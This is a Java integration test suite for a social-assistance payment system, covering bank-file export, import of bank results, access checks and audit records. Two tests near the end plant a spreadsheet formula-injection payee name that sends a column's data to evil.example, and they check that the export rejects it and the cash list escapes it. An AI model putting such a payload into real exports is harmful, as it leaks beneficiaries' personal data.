package vn.ansinh.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import jakarta.persistence.EntityManager;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.sql.Date;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import vn.ansinh.devstack.CommandsOnDay;
import vn.ansinh.payment.channel.application.BankFile;
import vn.ansinh.payment.channel.application.BankFileCsv;
import vn.ansinh.payment.channel.application.BankResultParser;
import vn.ansinh.payment.channel.application.BankResultReport;
import vn.ansinh.payment.channel.application.CashList;
import vn.ansinh.payment.channel.application.CashListWorkbook;
import vn.ansinh.payment.channel.application.ChannelLines;
import vn.ansinh.payment.channel.application.ChannelSummary;
import vn.ansinh.payment.channel.application.Csv;
import vn.ansinh.payment.channel.application.ExportBankFileCommand;
import vn.ansinh.payment.channel.application.ImportBankResultCommand;
import vn.ansinh.payment.channel.application.ImportOutcome;
import vn.ansinh.payment.channel.application.PaymentLine;
import vn.ansinh.payment.channel.application.ResultRow;
import vn.ansinh.payment.channel.domain.ResultOutcome;
import vn.ansinh.payment.domain.PaymentChannel;
import vn.ansinh.payment.domain.PaymentStatus;
import vn.ansinh.registry.application.AdminUnitTree;
import vn.ansinh.registry.domain.AdminUnit;
import vn.ansinh.shared.command.AccessDeniedException;
import vn.ansinh.shared.command.Command;
import vn.ansinh.shared.kernel.AdminUnitCode;
import vn.ansinh.shared.kernel.BusinessRuleException;
import vn.ansinh.shared.security.Actor;
import vn.ansinh.shared.security.Role;

/** Exporting bank files and importing the bank's results on the real database: lines, accounts, audit. */
class PaymentChannelsIT {

    private static final String NOW = "2026-04-05T03:00:00Z";
    private static final LocalDate TODAY = LocalDate.of(2026, 4, 5);
    private static final AdminUnitCode TUAN_GIAO = AdminUnitCode.of(PaymentFixture.TUAN_GIAO);
    private static final Actor OFFICER =
            new Actor("officer.tuangiao", "Lò Văn Thành", Set.of(Role.COMMUNE_OFFICER), TUAN_GIAO);
    private static final Actor OFFICER_QUY_HOP =
            new Actor("officer.quyhop", "Nguyễn Thị Hoa", Set.of(Role.COMMUNE_OFFICER), AdminUnitCode.of("17035"));
    private static final Actor AUDITOR = new Actor(
            "auditor.dienbien", "Trần Thị Lan", Set.of(Role.AUDITOR), AdminUnitCode.of(PaymentFixture.DIEN_BIEN));
    private static final String HEADER =
            "STT;ma_dong;so_tai_khoan;ten_nguoi_huong;so_dinh_danh;so_tien;noi_dung;ket_qua;ly_do\r\n";

    private final MigratedDatabase db = MigratedDatabase.get();
    private final PaymentFixture data = new PaymentFixture(db.jdbc());
    private EntityManager em;
    private CommandsOnDay commands;

    @BeforeEach
    void open() {
        em = db.emf().createEntityManager();
        AdminUnitTree units = AdminUnitTree.of(
                em.createQuery("select u from AdminUnit u", AdminUnit.class).getResultList());
        commands = new CommandsOnDay(em, units, denial -> {});
    }

    @AfterEach
    void close() {
        em.close();
    }

    @Test
    void exportingMarksThePendingTransfersOfThatBankExportedAndIsAudited() {
        YearMonth month = PaymentFixture.freshMonths(1);
        long run = data.run(TUAN_GIAO.value(), month, "APPROVED");
        long anh = data.person("Nguyễn Thị Ánh");
        long thanh = data.person("Lò Văn Thành");
        long pending1 = data.bankLine(run, anh, month, 750_000, "VBSP", "PENDING");
        long pending2 = data.bankLine(run, thanh, month, 1_110_000, "VBSP", "PENDING");
        long exportedBefore = data.bankLine(run, data.person("Quàng Thị Én"), month, 500_000, "VBSP", "EXPORTED");
        long paid = data.bankLine(run, data.person("Vi Văn Sơn"), month, 500_000, "VBSP", "PAID");
        long otherBank = data.bankLine(run, data.person("Cà Văn Ơn"), month, 500_000, "AGRIBANK", "PENDING");
        long cash = data.cashLine(run, data.person("Lò Thị Ỷ"), month, 500_000);
        ExportBankFileCommand export = new ExportBankFileCommand(run, TUAN_GIAO, "VBSP", "csv");

        assertThatThrownBy(() -> run(AUDITOR, export)).isInstanceOf(AccessDeniedException.class);
        assertThatThrownBy(() -> run(OFFICER_QUY_HOP, export)).isInstanceOf(AccessDeniedException.class);
        assertThat(status(pending1)).isEqualTo("PENDING");

        BankFile file = run(OFFICER, export);

        assertThat(file.lines())
                .extracting(PaymentLine::lineId)
                .containsExactlyInAnyOrder(pending1, pending2, exportedBefore);
        assertThat(file.lines()).extracting(PaymentLine::fullName).contains("Nguyễn Thị Ánh", "Lò Văn Thành");
        assertThat(file.bankName()).isEqualTo("Ngân hàng Chính sách xã hội");
        assertThat(file.total()).isEqualTo(2_360_000);
        assertThat(List.of(
                        status(pending1),
                        status(pending2),
                        status(exportedBefore),
                        status(paid),
                        status(otherBank),
                        status(cash)))
                .containsExactly("EXPORTED", "EXPORTED", "EXPORTED", "PAID", "PENDING", "PENDING");
        String csv = new String(BankFileCsv.write(file), StandardCharsets.UTF_8);
        assertThat(csv).contains(";" + pending1 + ";ACC" + anh + ";Nguyễn Thị Ánh;0", ";750000;");
        Map<String, Object> audit = db.jdbc()
                .row(
                        "select * from audit_record where action = ? and target_id = ? " + "and outcome = 'SUCCEEDED'",
                        ExportBankFileCommand.ACTION,
                        Long.toString(run));
        assertThat(audit).containsEntry("actor", "officer.tuangiao").containsEntry("unit_code", TUAN_GIAO.value());
        assertThat((String) audit.get("after_value"))
                .contains("\"newlyExported\":2", "\"lines\":3", "\"total\":2360000");
    }

    @Test
    void aRunNotApprovedCannotBeExported() {
        YearMonth month = PaymentFixture.freshMonths(1);
        long run = data.run(TUAN_GIAO.value(), month, "COMPUTED");
        long line = data.bankLine(run, data.person("Lò Văn Chưa"), month, 500_000, "VBSP", "PENDING");

        assertThatThrownBy(() -> run(OFFICER, new ExportBankFileCommand(run, TUAN_GIAO, "VBSP", "csv")))
                .isInstanceOf(BusinessRuleException.class)
                .hasMessage("channels.export.error.notApproved");
        assertThat(status(line)).isEqualTo("PENDING");
    }

    @Test
    void importingGoodFailedAndMalformedRowsAppliesOnlyTheGoodAndFailedOnesOnceAndForAll() {
        YearMonth month = PaymentFixture.freshMonths(1);
        long run = data.run(TUAN_GIAO.value(), month, "APPROVED");
        long otherRun = data.run(TUAN_GIAO.value(), PaymentFixture.freshMonths(1), "APPROVED");
        long anh = data.person("Nguyễn Thị Ánh");
        long thanh = data.person("Lò Văn Thành");
        long en = data.person("Quàng Thị Én");
        long son = data.person("Vi Văn Sơn");
        long on = data.person("Cà Văn Ơn");
        data.account(anh, "VERIFIED", LocalDate.of(2025, 9, 1), null);
        data.account(thanh, "VERIFIED", LocalDate.of(2025, 9, 1), null);
        data.account(en, "PAID_VIA_ACCOUNT", LocalDate.of(2025, 9, 1), LocalDate.of(2025, 10, 10));
        data.account(son, "VERIFIED", LocalDate.of(2025, 9, 1), null);
        long good = data.bankLine(run, anh, month, 750_000, "VBSP", "PENDING");
        long failed = data.bankLine(run, thanh, month, 1_110_000, "VBSP", "PENDING");
        long goodAgain = data.bankLine(run, en, month, 500_000, "VBSP", "PENDING");
        long wrongAmount = data.bankLine(run, son, month, 500_000, "VBSP", "PENDING");
        long twice = data.bankLine(run, on, month, 500_000, "VBSP", "PENDING");
        long ofOtherRun = data.bankLine(otherRun, on, month.plusMonths(1), 500_000, "VBSP", "EXPORTED");
        long badResult = data.bankLine(run, data.person("Tòng Văn Đức"), month, 500_000, "VBSP", "PENDING");
        run(OFFICER, new ExportBankFileCommand(run, TUAN_GIAO, "VBSP", "csv"));
        long versionBefore = ((Number) db.jdbc()
                        .row("select version from ss_account where person_id = ?", anh)
                        .get("version"))
                .longValue();
        byte[] file = (Csv.BOM
                        + HEADER
                        + row(1, good, anh, "Nguyễn Thị Ánh", 750_000, "THANH_CONG", "")
                        + row(2, failed, thanh, "Lò Văn Thành", 1_110_000, "THAT_BAI", "Tài khoản đã đóng")
                        + row(3, goodAgain, en, "Quàng Thị Én", 500_000, "THANH_CONG", "")
                        + row(4, wrongAmount, son, "Vi Văn Sơn", 600_000, "THANH_CONG", "")
                        + row(5, twice, on, "Cà Văn Ơn", 500_000, "THANH_CONG", "")
                        + row(6, twice, on, "Cà Văn Ơn", 500_000, "THAT_BAI", "Sai tên")
                        + row(7, ofOtherRun, on, "Cà Văn Ơn", 500_000, "THANH_CONG", "")
                        + row(8, 987_654_321L, on, "Không Có", 500_000, "THANH_CONG", "")
                        + row(9, badResult, son, "Tòng Văn Đức", 500_000, "DA_CHUYEN", ""))
                .getBytes(StandardCharsets.UTF_8);

        BankResultReport report = check(run, file);

        assertThat(report.rows())
                .extracting(
                        ResultRow::lineId,
                        ResultRow::outcome,
                        r -> r.problem() == null ? null : r.problem().messageKey())
                .containsExactly(
                        tuple(good, ResultOutcome.PAID, null),
                        tuple(failed, ResultOutcome.FAILED, null),
                        tuple(goodAgain, ResultOutcome.PAID, null),
                        tuple(wrongAmount, ResultOutcome.REJECTED, "channels.result.row.amount"),
                        tuple(twice, ResultOutcome.REJECTED, "channels.result.row.duplicate"),
                        tuple(twice, ResultOutcome.REJECTED, "channels.result.row.duplicate"),
                        tuple(ofOtherRun, ResultOutcome.REJECTED, "channels.result.row.otherRun"),
                        tuple(987_654_321L, ResultOutcome.REJECTED, "channels.result.row.unknownLine"),
                        tuple(badResult, ResultOutcome.REJECTED, "channels.result.row.result"));
        assertThatThrownBy(() -> run(AUDITOR, new ImportBankResultCommand(run, TUAN_GIAO, report)))
                .isInstanceOf(AccessDeniedException.class);
        assertThat(status(good)).isEqualTo("EXPORTED");

        ImportOutcome outcome = run(OFFICER, new ImportBankResultCommand(run, TUAN_GIAO, report));

        assertThat(outcome.paid()).isEqualTo(2);
        assertThat(outcome.failed()).isEqualTo(1);
        assertThat(outcome.notApplied()).isEqualTo(6);
        assertThat(db.jdbc().row("select payment_status, paid_on, failure_reason from payroll_line where id = ?", good))
                .containsEntry("payment_status", "PAID")
                .containsEntry("paid_on", Date.valueOf(TODAY))
                .containsEntry("failure_reason", null);
        assertThat(db.jdbc()
                        .row("select payment_status, paid_on, failure_reason from payroll_line where id = ?", failed))
                .containsEntry("payment_status", "FAILED")
                .containsEntry("failure_reason", "Tài khoản đã đóng");
        assertThat(List.of(
                        status(goodAgain), status(wrongAmount), status(twice), status(ofOtherRun), status(badResult)))
                .containsExactly("PAID", "EXPORTED", "EXPORTED", "EXPORTED", "EXPORTED");
        assertThat(db.jdbc().row("select status, first_paid_on, version from ss_account where person_id = ?", anh))
                .containsEntry("status", "PAID_VIA_ACCOUNT")
                .containsEntry("first_paid_on", Date.valueOf(TODAY))
                .containsEntry("version", versionBefore + 1);
        assertThat(db.jdbc().row("select status, failed_on from ss_account where person_id = ?", thanh))
                .containsEntry("status", "FAILED")
                .containsEntry("failed_on", Date.valueOf(TODAY));
        assertThat(db.jdbc().row("select status, first_paid_on from ss_account where person_id = ?", en))
                .containsEntry("status", "PAID_VIA_ACCOUNT")
                .containsEntry("first_paid_on", Date.valueOf("2025-10-10"));
        assertThat(db.jdbc().row("select status from ss_account where person_id = ?", son))
                .containsEntry("status", "VERIFIED");
        assertThat(db.jdbc()
                        .row(
                                "select from_status, to_status, source, note from ss_account_event where person_id = ?",
                                thanh))
                .containsEntry("from_status", "VERIFIED")
                .containsEntry("to_status", "FAILED")
                .containsEntry("source", "PAYMENT")
                .satisfies(event -> assertThat((String) event.get("note")).endsWith("Tài khoản đã đóng"));
        assertThat(db.jdbc()
                        .countOf(
                                "select count(*) from ss_account_event where person_id = ? and to_status = "
                                        + "'PAID_VIA_ACCOUNT'",
                                anh))
                .isEqualTo(1);
        assertThat(db.jdbc().countOf("select count(*) from ss_account_event where person_id = ?", en))
                .isZero();
        Map<String, Object> record = db.jdbc().row("select * from bank_result_import where run_id = ?", run);
        assertThat(record)
                .containsEntry("bank_code", "VBSP")
                .containsEntry("file_name", "ket-qua-vbsp.csv")
                .containsEntry("imported_by", "officer.tuangiao")
                .containsEntry("rows_paid", 2)
                .containsEntry("rows_failed", 1)
                .containsEntry("rows_rejected", 6);
        assertThat(db.jdbc().countOf("select count(*) from bank_result_row where import_id = ?", record.get("id")))
                .isEqualTo(9);
        assertThat(db.jdbc()
                        .row(
                                "select outcome, detail, recorded_on from bank_result_row where import_id = ? and file_row = 5",
                                record.get("id")))
                .containsEntry("outcome", "REJECTED")
                .containsEntry("recorded_on", Date.valueOf(TODAY))
                .satisfies(r -> assertThat((String) r.get("detail")).startsWith("channels.result.row.amount"));
        assertThat(db.jdbc()
                        .row(
                                "select after_value from audit_record where action = ? and target_id = ?",
                                ImportBankResultCommand.ACTION,
                                record.get("id").toString())
                        .get("after_value")
                        .toString())
                .contains("\"paid\":2", "\"failed\":1", "\"notApplied\":6");

        BankResultReport again = check(run, file);

        assertThat(again.rows(ResultOutcome.ALREADY_RECORDED))
                .extracting(ResultRow::lineId)
                .containsExactly(good, failed, goodAgain);
        assertThat(again.canApply()).isFalse();
        assertThatThrownBy(() -> run(OFFICER, new ImportBankResultCommand(run, TUAN_GIAO, again)))
                .isInstanceOf(BusinessRuleException.class)
                .hasMessage("channels.result.error.nothing");
        assertThat(db.jdbc().countOf("select count(*) from bank_result_import where run_id = ?", run))
                .isEqualTo(1);
        assertThat(List.of(status(good), status(failed), status(goodAgain))).containsExactly("PAID", "FAILED", "PAID");
        assertThat(db.jdbc().countOf("select count(*) from ss_account_event where person_id in (?, ?)", anh, thanh))
                .isEqualTo(2);
    }

    @Test
    void aResultCheckedBeforeAnotherImportChangedALineAppliesNothingAtAll() {
        YearMonth month = PaymentFixture.freshMonths(1);
        long run = data.run(TUAN_GIAO.value(), month, "APPROVED");
        long anh = data.person("Nguyễn Thị Ánh");
        long thanh = data.person("Lò Văn Thành");
        data.account(anh, "VERIFIED", LocalDate.of(2025, 9, 1), null);
        long first = data.bankLine(run, anh, month, 750_000, "VBSP", "PENDING");
        long second = data.bankLine(run, thanh, month, 1_110_000, "VBSP", "PENDING");
        run(OFFICER, new ExportBankFileCommand(run, TUAN_GIAO, "VBSP", "xlsx"));
        BankResultReport report = check(
                run,
                (HEADER
                                + row(1, first, anh, "Nguyễn Thị Ánh", 750_000, "THANH_CONG", "")
                                + row(2, second, thanh, "Lò Văn Thành", 1_110_000, "THAT_BAI", "Sai số tài khoản"))
                        .getBytes(StandardCharsets.UTF_8));
        assertThat(report.toApply()).hasSize(2);
        data.execute("update payroll_line set payment_status = 'PAID', paid_on = '2026-04-04' where id = ?", second);

        assertThatThrownBy(() -> run(OFFICER, new ImportBankResultCommand(run, TUAN_GIAO, report)))
                .isInstanceOf(BusinessRuleException.class)
                .hasMessage("channels.result.error.changed");

        assertThat(status(first)).isEqualTo("EXPORTED");
        assertThat(db.jdbc().row("select status from ss_account where person_id = ?", anh))
                .containsEntry("status", "VERIFIED");
        assertThat(db.jdbc().countOf("select count(*) from bank_result_import where run_id = ?", run))
                .isZero();
        assertThat(db.jdbc().countOf("select count(*) from ss_account_event where person_id = ?", anh))
                .isZero();
    }

    @Test
    void aFailedTransferFailsOnlyAnAccountTheLegalStepsLetFail() {
        YearMonth month = PaymentFixture.freshMonths(1);
        long run = data.run(TUAN_GIAO.value(), month, "APPROVED");
        long reopened = data.person("Lò Văn Mở");
        long onCash = data.person("Quàng Thị Mặt");
        long verified = data.person("Cà Văn Lỗi");
        data.account(reopened, "VERIFIED", LocalDate.of(2025, 9, 1), null);
        data.account(onCash, "VERIFIED", LocalDate.of(2025, 9, 1), null);
        data.account(verified, "VERIFIED", LocalDate.of(2025, 9, 1), null);
        long first = data.bankLine(run, reopened, month, 750_000, "VBSP", "PENDING");
        long second = data.bankLine(run, onCash, month, 750_000, "VBSP", "PENDING");
        long third = data.bankLine(run, verified, month, 750_000, "VBSP", "PENDING");
        run(OFFICER, new ExportBankFileCommand(run, TUAN_GIAO, "VBSP", "csv"));
        // after the export: a new account opened (HAS_ACCOUNT), another person back on cash (CASH_FALLBACK)
        data.execute("update ss_account set status = 'HAS_ACCOUNT' where person_id = ?", reopened);
        data.execute("update ss_account set status = 'CASH_FALLBACK' where person_id = ?", onCash);
        BankResultReport report = check(
                run,
                (HEADER
                                + row(1, first, reopened, "Lò Văn Mở", 750_000, "THAT_BAI", "Sai số tài khoản")
                                + row(2, second, onCash, "Quàng Thị Mặt", 750_000, "THAT_BAI", "Sai số tài khoản")
                                + row(3, third, verified, "Cà Văn Lỗi", 750_000, "THAT_BAI", "Sai số tài khoản"))
                        .getBytes(StandardCharsets.UTF_8));

        run(OFFICER, new ImportBankResultCommand(run, TUAN_GIAO, report));

        assertThat(List.of(status(first), status(second), status(third))).containsExactly("FAILED", "FAILED", "FAILED");
        assertThat(db.jdbc().row("select status from ss_account where person_id = ?", reopened))
                .as("HAS_ACCOUNT may not fail (AccountStatus): the new account was never tried")
                .containsEntry("status", "HAS_ACCOUNT");
        assertThat(db.jdbc().row("select status from ss_account where person_id = ?", onCash))
                .containsEntry("status", "CASH_FALLBACK");
        assertThat(db.jdbc().row("select status from ss_account where person_id = ?", verified))
                .containsEntry("status", "FAILED");
        assertThat(db.jdbc()
                        .countOf("select count(*) from ss_account_event where person_id in (?, ?)", reopened, onCash))
                .isZero();
    }

    @Test
    void theCashListOfARunHasItsCashLinesWithTheRegistryNamesAndTheirTotal() {
        YearMonth month = PaymentFixture.freshMonths(1);
        long run = data.run(TUAN_GIAO.value(), month, "APPROVED");
        long anh = data.person("Nguyễn Thị Ánh");
        data.cashLine(run, anh, month, 750_000);
        data.line(run, anh, "ARREARS", month.minusMonths(1), 750_000, "CASH", null, "PENDING");
        data.cashLine(run, data.person("Lò Văn Thành"), month, 1_000_000);
        data.bankLine(run, data.person("Quàng Thị Én"), month, 500_000, "VBSP", "PENDING");
        ChannelLines lines = new ChannelLines(em);

        List<PaymentLine> cash = lines.cash(run, null);
        CashList list = new CashList("Xã Tuần Giáo", null, month, true, cash, Map.of());

        assertThat(cash)
                .extracting(PaymentLine::fullName, PaymentLine::amount)
                .containsExactly(
                        tuple("Lò Văn Thành", 1_000_000L),
                        tuple("Nguyễn Thị Ánh", 750_000L),
                        tuple("Nguyễn Thị Ánh", 750_000L));
        assertThat(cash)
                .allSatisfy(
                        line -> assertThat(line.personalId()).startsWith("0").hasSize(12));
        assertThat(list.total()).isEqualTo(2_500_000);
        assertThat(list.people()).isEqualTo(2);
        assertThat(CashListWorkbook.write(list)).isNotEmpty();
        assertThat(lines.cashCommunes(run)).containsExactly(TUAN_GIAO);
        ChannelSummary summary = new ChannelSummary(lines.totals(run));
        assertThat(summary.channel(PaymentChannel.CASH).lines()).isEqualTo(3);
        assertThat(summary.channel(PaymentChannel.CASH).amount()).isEqualTo(2_500_000);
        assertThat(summary.banks()).singleElement().satisfies(bank -> {
            assertThat(bank.key()).isEqualTo("VBSP");
            assertThat(bank.linesIn(PaymentStatus.PENDING)).isEqualTo(1);
        });
    }

    @Test
    void aPayeeNameThatASpreadsheetWouldRunAsAFormulaStopsTheBankFileNamingItsLine() {
        YearMonth month = PaymentFixture.freshMonths(1);
        long run = data.run(TUAN_GIAO.value(), month, "APPROVED");
        long fine = data.bankLine(run, data.person("Lò Thị Ánh"), month, 750_000, "VBSP", "PENDING");
        // a name recorded before the rule existed (the registry refuses it now)
        long evil = data.bankLine(
                run,
                data.person("=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")"),
                month,
                750_000,
                "VBSP",
                "PENDING");

        assertThatThrownBy(() -> run(OFFICER, new ExportBankFileCommand(run, TUAN_GIAO, "VBSP", "csv")))
                .isInstanceOfSatisfying(BusinessRuleException.class, e -> {
                    assertThat(e.messageKey()).isEqualTo("channels.export.error.formula");
                    // the file lists payees by name: '=' sorts before letters, so it is line 1
                    assertThat(e.arguments()).containsExactly(1, Long.toString(evil));
                });
        assertThat(List.of(status(fine), status(evil))).as("nothing exported").containsExactly("PENDING", "PENDING");
    }

    @Test
    void theCashListShowsAFormulaLikeNameAsTextWithASingleQuote() throws Exception {
        YearMonth month = PaymentFixture.freshMonths(1);
        long run = data.run(TUAN_GIAO.value(), month, "APPROVED");
        String evil = "=HYPERLINK(\"http://evil.example/?q=\"&A:A,\"x\")";
        data.cashLine(run, data.person(evil), month, 750_000);
        CashList list = new CashList("Xã Tuần Giáo", null, month, true, new ChannelLines(em).cash(run, null), Map.of());

        java.util.List<String> texts = new java.util.ArrayList<>();
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(
                new ByteArrayInputStream(CashListWorkbook.write(list)))) {
            workbook.getSheetAt(0)
                    .forEach(row -> row.forEach(cell -> {
                        if (cell.getCellType() == org.apache.poi.ss.usermodel.CellType.FORMULA) {
                            texts.add("FORMULA " + cell.getCellFormula());
                        } else if (cell.getCellType() == org.apache.poi.ss.usermodel.CellType.STRING) {
                            texts.add(cell.getStringCellValue());
                        }
                    }));
        }
        assertThat(texts).contains("'" + evil).doesNotContain(evil).noneMatch(t -> t.startsWith("FORMULA HYPERLINK"));
    }

    private BankResultReport check(long run, byte[] file) {
        return new BankResultParser(run, "VBSP", new ChannelLines(em)::states)
                .parse("ket-qua-vbsp.csv", file.length, new ByteArrayInputStream(file));
    }

    private static String row(int n, long lineId, long person, String name, long amount, String result, String reason) {
        return Csv.line(List.of(
                Integer.toString(n),
                Long.toString(lineId),
                "ACC" + person,
                name,
                "011152000321",
                Long.toString(amount),
                "TRO CAP",
                result,
                reason));
    }

    private String status(long line) {
        return (String) db.jdbc()
                .row("select payment_status from payroll_line where id = ?", line)
                .get("payment_status");
    }

    private <R> R run(Actor actor, Command<R> command) {
        return commands.run(actor, NOW, () -> command);
    }
}
